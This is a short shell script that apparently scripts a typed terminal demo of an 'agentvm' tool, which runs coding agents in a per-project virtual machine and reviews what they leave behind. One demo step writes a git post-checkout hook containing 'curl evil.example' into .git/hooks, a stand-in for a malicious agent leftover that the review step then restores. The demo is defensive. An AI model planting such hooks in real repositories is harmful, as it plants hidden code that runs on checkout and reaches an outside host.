#!/bin/sh
# What session.svg shows: real commands in a real project; only the typing is a program's.
set -eu
type_and_run() {
    printf '\033[32m%s\033[0m $ ' "${PWD##*/}"
    rest=$1
    while [ "$rest" ]; do
        printf %s "${rest%"${rest#?}"}"
        rest=${rest#?}
        sleep 0.04
    done
    sleep 0.4
    echo
    # Some fail on purpose, or because of what they found.
    eval "$1" || true
    sleep 1.5
}
type_and_run '# The first run makes the VM of this project, and the second finds it.'
type_and_run 'agentvm codex --version'
type_and_run 'agentvm codex --version'
type_and_run 'agentvm shell -- sh -c "uname -s; pwd; git log --oneline | cat"'
type_and_run '# Not everything that an agent leaves is for you to run.'
type_and_run "agentvm shell -- sh -c 'cd .git/hooks && echo curl evil.example >post-checkout && chmod +x post-checkout'"
type_and_run 'agentvm review --restore'
type_and_run 'agentvm list'
type_and_run 'agentvm stop'
